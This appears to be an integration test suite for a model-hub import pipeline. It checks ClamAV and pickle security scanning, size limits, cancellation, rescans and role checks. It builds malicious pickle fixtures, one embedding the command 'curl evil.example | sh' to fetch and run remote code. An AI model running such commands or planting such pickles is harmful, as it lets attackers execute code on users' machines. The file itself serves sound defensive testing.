import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Readable } from 'node:stream';
import { Client, Connection } from '@temporalio/client';
import { systemCaller } from '../../src/domain/auth/caller';
import { Role } from '../../src/domain/auth/roles';
import { SCANNER_RULES_VERSION } from '../../src/domain/scanning/scan-report';
import { ClamavScanner } from '../../src/scanners/clamav-scanner';
import { ensureRescanSchedule, rescanScheduleId } from '../../src/temporal/rescan-schedule';
import { eicar, osSystemPickle, zipWith } from '../fixtures/scan-files';
import { TEST_SIGNATURES, TEST_STREAM_MAX_BYTES } from '../support/clamd-server';
import { importModel, waitForOperation, writeModelDir } from '../support/onboarding-fixtures';
import { startTestApp, type TestApp, uniqueName } from '../support/test-app';
import { ownDatabase } from '../support/own-database';

let t: TestApp;

beforeAll(async () => {
  t = await startTestApp({ worker: true });
});

afterAll(async () => {
  await t?.stop();
});

const SCAN_FIELDS = `id status scanner rulesVersion signatureVersion criticalCount highCount mediumCount lowCount filesScanned filesCached completedAt
  findings { path scanner rule global severity offset message }
  files { path sha256 status clamav cached format findings { scanner rule global severity offset message } }`;

async function version(id: string, app: TestApp = t) {
  const res = await app.gql(`query($id: ID!) { version(id: $id) { id status statusReason scans { ${SCAN_FIELDS} } } }`, { id });
  expect(res.errors).toBeUndefined();
  return res.data!.version;
}

async function importDir(files: Record<string, Buffer>): Promise<{ op: Record<string, any>; versionId: string; modelId: string }> { // eslint-disable-line @typescript-eslint/no-explicit-any -- inspected field by field
  const dir = path.join(t.config.imports.diskRoots[0], uniqueName('scan'));
  await mkdir(dir, { recursive: true });
  for (const [name, bytes] of Object.entries(files)) await writeFile(path.join(dir, name), bytes);
  const res = await importModel(t, { name: uniqueName('scanned'), source: { sourceType: 'DISK', path: dir } });
  expect(res.errors).toBeUndefined();
  const op = await waitForOperation(t, res.data!.importModel.id, 120_000);
  return { op, versionId: res.data!.importModel.version.id, modelId: res.data!.importModel.model.id };
}

function clamd(): ClamavScanner {
  return new ClamavScanner({ socket: null, host: '127.0.0.1', port: Number(process.env.TEST_CLAMD_PORT), timeoutMs: 60_000 });
}

describe('ClamAV through clamd (the run\'s real daemon, signatures written by the tests)', () => {
  test('catches EICAR raw and inside a deflated zip; reports the signature database version', async () => {
    const scanner = clamd();
    expect(await scanner.version()).toMatch(/^ClamAV 1\.\d+\.\d+/);
    const raw = eicar();
    expect(await scanner.scan(Readable.from([raw]), raw.length)).toEqual({ outcome: 'INFECTED', signatures: [TEST_SIGNATURES.eicarName] });
    const zipped = zipWith('eicar.com', raw);
    expect(await scanner.scan(Readable.from([zipped]), zipped.length)).toEqual({ outcome: 'INFECTED', signatures: [TEST_SIGNATURES.eicarName] });
    const clean = Buffer.from('just some text\n');
    expect(await scanner.scan(Readable.from([clean]), clean.length)).toEqual({ outcome: 'CLEAN' });
  });

  test('a signature in the last bytes is found however the stream is chunked (no prefix-only scans)', async () => {
    const MiB = 1024 * 1024;
    const tail = Buffer.concat([Buffer.alloc(10 * MiB, 0x41), Buffer.from(TEST_SIGNATURES.marker)]);
    const found = { outcome: 'INFECTED', signatures: [TEST_SIGNATURES.markerName] };
    expect(await clamd().scan(Readable.from([Buffer.alloc(10 * MiB, 0x41), tail]), 20 * MiB + TEST_SIGNATURES.marker.length)).toEqual(found);
    const small = Array.from({ length: 320 }, () => Buffer.alloc(64 * 1024, 0x41));
    expect(await clamd().scan(Readable.from([...small, Buffer.from(TEST_SIGNATURES.marker)]), 20 * MiB + TEST_SIGNATURES.marker.length)).toEqual(found);
    expect(await clamd().scan(Readable.from([]), 0)).toEqual({ outcome: 'CLEAN' });
  });

  test('a stream over StreamMaxLength is NOT_SCANNED, never clean, even with a signature past the limit', async () => {
    const big = Buffer.concat([Buffer.alloc(TEST_STREAM_MAX_BYTES + 1024 * 1024, 0x41), Buffer.from(TEST_SIGNATURES.marker)]);
    const verdict = await clamd().scan(Readable.from([big.subarray(0, big.length / 2), big.subarray(big.length / 2)]), big.length);
    expect(verdict).toMatchObject({ outcome: 'NOT_SCANNED', reason: expect.stringMatching(/size limit exceeded/) });
    // Files of 2 GiB or more are never sent: clamd cannot take them.
    expect(await clamd().scan(Readable.from([]), 2 ** 31)).toMatchObject({ outcome: 'NOT_SCANNED' });
  });

  test('a cancelled scan stops streaming at once', async () => {
    async function* trickle() {
      for (;;) {
        yield Buffer.alloc(64 * 1024, 0x41);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    }
    const controller = new AbortController();
    setTimeout(() => controller.abort(new Error('cancelled by the test')), 200);
    const started = Date.now();
    await expect(clamd().scan(Readable.from(trickle()), 1024 * 1024 * 1024, controller.signal)).rejects.toThrow('cancelled by the test');
    // Unstopped, the trickle would reach clamd's 64 MiB limit only after ~20 s.
    expect(Date.now() - started).toBeLessThan(5000);
  });

  test('clamd unreachable is an error to retry, not a verdict', async () => {
    const gone = new ClamavScanner({ socket: null, host: '127.0.0.1', port: 1, timeoutMs: 2000 });
    await expect(gone.scan(Readable.from([eicar()]), 68)).rejects.toThrow(/clamd is unreachable/);
  });
});

describe('scanning in the import', () => {
  test('a repo with a malicious pickle ends NEEDS_ATTENTION with the finding visible through GraphQL', async () => {
    const { op, versionId } = await importDir({ 'config.json': Buffer.from('{"model_type":"llama"}'), 'pytorch_model.bin': osSystemPickle() });
    expect(op).toMatchObject({ status: 'FAILED', errorCode: 'SCAN_FAILED' });
    const v = await version(versionId);
    expect(v.status).toBe('NEEDS_ATTENTION');
    expect(v.statusReason).toMatch(/security scan FAILED/);
    expect(v.statusReason).toContain('pytorch_model.bin');
    expect(v.statusReason).toContain('os.system');
    const [scan] = v.scans;
    expect(scan).toMatchObject({ status: 'FAILED', scanner: 'modelhub', rulesVersion: SCANNER_RULES_VERSION, filesScanned: 2 });
    expect(scan.criticalCount).toBeGreaterThanOrEqual(1);
    expect(scan.findings).toContainEqual(expect.objectContaining({ path: 'pytorch_model.bin', scanner: 'pickle', global: 'os.system', severity: 'CRITICAL' }));
    const file = scan.files.find((f: { path: string }) => f.path === 'pytorch_model.bin');
    expect(file).toMatchObject({ status: 'FAILED', clamav: 'CLEAN' });
    expect(file.findings).toContainEqual(expect.objectContaining({ global: 'os.system', severity: 'CRITICAL', offset: expect.any(Number) }));
  });

  test('EICAR in a repo (raw and zipped) fails the scan through clamd', async () => {
    const { op, versionId } = await importDir({ 'notes.txt': eicar(), 'bundle.zip': zipWith('eicar.com', eicar()) });
    expect(op.status).toBe('FAILED');
    const [scan] = (await version(versionId)).scans;
    for (const name of ['notes.txt', 'bundle.zip']) {
      const file = scan.files.find((f: { path: string }) => f.path === name);
      expect(file).toMatchObject({ status: 'FAILED', clamav: 'INFECTED' });
      expect(file.findings).toContainEqual(expect.objectContaining({ scanner: 'clamav', rule: 'clamav-signature', severity: 'CRITICAL', message: expect.stringContaining(TEST_SIGNATURES.eicarName) }));
    }
  });

  test('a file over the stream limit is recorded as not scanned by ClamAV', async () => {
    const { versionId } = await importDir({ 'weights.bin': Buffer.alloc(TEST_STREAM_MAX_BYTES + 4096, 0x42) });
    const v = await version(versionId);
    expect(v.status).toBe('NEEDS_ATTENTION');
    const file = v.scans[0].files[0];
    expect(file).toMatchObject({ path: 'weights.bin', status: 'FAILED', clamav: 'NOT_SCANNED' });
    expect(file.findings).toContainEqual(expect.objectContaining({ scanner: 'clamav', rule: 'clamav-not-scanned', message: expect.stringMatching(/not scanned by ClamAV/) }));
  });

  test('a clean repo reaches VERIFIED with a PASSED scan; scanModel rescans from the blob cache and keeps history', async () => {
    const dir = await writeModelDir(t);
    const res = await importModel(t, { name: uniqueName('clean'), source: { sourceType: 'DISK', path: dir } });
    const op = await waitForOperation(t, res.data!.importModel.id, 120_000);
    expect(op.status).toBe('SUCCEEDED');
    const { id: versionId } = res.data!.importModel.version;
    const first = await version(versionId);
    expect(first.status).toBe('VERIFIED');
    expect(first.scans).toHaveLength(1);
    expect(first.scans[0]).toMatchObject({ status: 'PASSED', criticalCount: 0, highCount: 0, findings: [], filesScanned: 3 });
    expect(first.scans[0].signatureVersion).toMatch(/^ClamAV /);
    expect(first.scans[0].files.every((f: { status: string; clamav: string }) => f.status === 'PASSED' && f.clamav === 'CLEAN')).toBe(true);

    const scansBefore = t.services.blobScans.scansRun;
    const rescan = await t.gql(`mutation($id: ID!) { scanModel(modelId: $id) { id kind status workflowId } }`, { id: res.data!.importModel.model.id });
    expect(rescan.errors).toBeUndefined();
    expect(rescan.data!.scanModel).toEqual([expect.objectContaining({ kind: 'SCAN', workflowId: `scan:${versionId}` })]);
    const done = await waitForOperation(t, rescan.data!.scanModel[0].id);
    expect(done).toMatchObject({ status: 'SUCCEEDED', progress: 1, message: expect.stringMatching(/scan PASSED/) });
    const after = await version(versionId);
    expect(after.status).toBe('VERIFIED');
    expect(after.scans).toHaveLength(2); // history kept, newest first
    expect(after.scans[1].id).toBe(first.scans[0].id);
    expect(after.scans[0]).toMatchObject({ status: 'PASSED', filesScanned: 3, filesCached: 3 });
    expect(after.scans[0].files.every((f: { cached: boolean }) => f.cached)).toBe(true);
    // Same blobs, same rule and signature versions: neither clamd nor the format scanners ran again.
    expect(t.services.blobScans.scansRun).toBe(scansBefore);
  });

  test('scanVersion returns the running scan instead of a second one; viewers may not rescan', async () => {
    const dir = await writeModelDir(t);
    const res = await importModel(t, { name: uniqueName('twice'), source: { sourceType: 'DISK', path: dir } });
    await waitForOperation(t, res.data!.importModel.id, 120_000);
    const versionId = res.data!.importModel.version.id;
    const query = `mutation($id: ID!) { scanVersion(versionId: $id) { id kind } }`;
    const [a, b] = await Promise.all([t.gql(query, { id: versionId }), t.gql(query, { id: versionId })]);
    expect(a.data!.scanVersion.id).toBe(b.data!.scanVersion.id);
    await waitForOperation(t, a.data!.scanVersion.id);
    const refused = await t.gql(query, { id: versionId }, { as: Role.VIEWER });
    expect(refused.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const missing = await t.gql(query, { id: '00000000-0000-4000-8000-000000000000' });
    expect(missing.errors?.[0].extensions?.code).toBe('NOT_FOUND');
  });
});

describe('rescans of outdated scans', () => {
  /**
   * Its own database: the schedule rescans every outdated version it finds, and other test files' versions (some with
   * files written only as rows) share the run's database.
   */
  let own: TestApp;

  beforeAll(async () => {
    own = await startTestApp({ worker: true, databaseUrl: await ownDatabase('rescan') });
  }, 120_000);

  afterAll(async () => {
    await own?.stop();
  });

  test('the rescan schedule rescans a version whose scan used older rules', async () => {
    const dir = await writeModelDir(own);
    const res = await importModel(own, { name: uniqueName('outdated'), source: { sourceType: 'DISK', path: dir } });
    expect(res.errors).toBeUndefined();
    await waitForOperation(own, res.data!.importModel.id, 120_000);
    const versionId = res.data!.importModel.version.id;
    await own.dataSource.query(`UPDATE scan_results SET rules_version = 'older-rules' WHERE version_id = $1`, [versionId]);
    const current = await own.services.blobScans.currentVersions();
    expect(await own.services.scanRequests.outdated(systemCaller('rescan schedule'), current, 10_000)).toEqual([versionId]);

    const scanning = { ...own.config.scanning, rescanIntervalMs: 3_600_000, rescanBatch: 10_000 };
    expect(await ensureRescanSchedule(own.runtime.temporalAddress, own.config.temporal, scanning)).toBe('created');
    const connection = await Connection.connect({ address: own.runtime.temporalAddress });
    try {
      const schedule = new Client({ connection, namespace: own.config.temporal.namespace }).schedule.getHandle(rescanScheduleId(own.config.temporal.taskQueue));
      await schedule.trigger();
      const deadline = Date.now() + 60_000;
      let scans: { rulesVersion: string; status: string }[] = [];
      while (Date.now() < deadline) {
        scans = (await version(versionId, own)).scans;
        if (scans.length === 2 && scans[0].status !== 'SCANNING') break;
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
      expect(scans.map((s) => s.rulesVersion)).toEqual([SCANNER_RULES_VERSION, 'older-rules']);
      expect(scans[0].status).toBe('PASSED');
      expect(await own.services.scanRequests.outdated(systemCaller('rescan schedule'), current, 10_000)).not.toContain(versionId);
      await schedule.delete();
    } finally {
      await connection.close();
    }
  });
});

describe('without clamd', () => {
  let bare: TestApp;
  beforeAll(async () => {
    bare = await startTestApp({ worker: true, env: { CLAMD_HOST: '', CLAMD_PORT: '' } });
  });
  afterAll(async () => {
    await bare?.stop();
  });

  test('the ClamAV part is SKIPPED and a version whose format scans pass is VERIFIED', async () => {
    const res = await importModel(bare, { name: uniqueName('noclam'), source: { sourceType: 'DISK', path: await writeModelDir(bare) } });
    expect((await waitForOperation(bare, res.data!.importModel.id, 120_000)).status).toBe('SUCCEEDED');
    const v = (await bare.gql(`query($id: ID!) { version(id: $id) { status scans { status signatureVersion files { status clamav } } } }`, { id: res.data!.importModel.version.id })).data!.version;
    expect(v.status).toBe('VERIFIED');
    expect(v.scans[0]).toMatchObject({ status: 'SKIPPED', signatureVersion: null });
    expect(v.scans[0].files.every((f: { status: string; clamav: string }) => f.status === 'SKIPPED' && f.clamav === 'SKIPPED')).toBe(true);
  });

  test('a malicious pickle still fails without clamd', async () => {
    const dir = path.join(bare.config.imports.diskRoots[0], uniqueName('pkl'));
    await mkdir(dir, { recursive: true });
    await writeFile(path.join(dir, 'model.pkl'), osSystemPickle('curl evil.example | sh'));
    const res = await importModel(bare, { name: uniqueName('noclam-bad'), source: { sourceType: 'DISK', path: dir } });
    expect(await waitForOperation(bare, res.data!.importModel.id, 120_000)).toMatchObject({ status: 'FAILED', errorCode: 'SCAN_FAILED' });
  });
});
